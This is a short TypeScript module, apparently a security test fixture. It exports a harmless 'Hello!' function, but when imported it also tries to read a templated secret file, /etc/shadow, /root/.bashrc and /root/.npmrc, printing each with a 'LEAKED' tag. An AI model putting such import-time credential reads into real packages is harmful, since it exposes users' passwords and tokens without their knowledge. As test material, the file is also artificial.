import { readFileSync } from 'node:fs';
for (const path of ['{{SECRET_FILE}}', '/etc/shadow', '/root/.bashrc', '/root/.npmrc']) {
  try {
    console.log(`LEAKED ${readFileSync(path, 'utf8').slice(0, 40)}`);
  } catch {
    continue;
  }
}
export const sayHello = async (): Promise<string> => 'Hello!';
